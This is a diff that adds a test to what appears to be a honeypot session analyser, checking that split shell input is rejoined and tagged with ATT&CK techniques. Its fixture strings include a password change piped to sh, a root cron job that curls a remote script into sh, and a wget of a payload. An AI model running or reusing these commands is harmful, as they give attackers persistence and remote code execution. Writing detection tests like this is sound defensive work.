@@ -160,3 +160,16 @@ async def test_04_an_id_that_comes_again_is_another_session(known: Known) -> Non
     assert known.techniques("192.0.2.70") >= {"T1105"}
     assert known.techniques("192.0.2.71") >= {"T1007"}
     assert known.techniques("192.0.2.72") >= {"T1033", "T1082"}
+
+
+async def test_05_what_the_shell_saw_as_one_command_is_judged_whole(known: Known) -> None:
+    session = await known.session("ca2600000004")
+    assert len(session["commands"]) == 8
+    first = session["commands"][0]["id"]
+    assert [(j["command_text"], len(j["lines"])) for j in session["joined"]] == [
+        ("echo -e 'admin\nQx7Zp2\nQx7Zp2'|passwd|sh;", 3),
+        ("cat > /etc/cron.d/x <<EOF\n* * * * * root curl http://203.0.113.9/c|sh\nEOF", 3),
+        ("wget   http://203.0.113.9/z.sh", 2),
+    ]
+    assert session["joined"][0]["id"] == f"{first}+2"
+    assert known.techniques("192.0.2.64") >= {"T1098", "T1053.003", "T1105"}
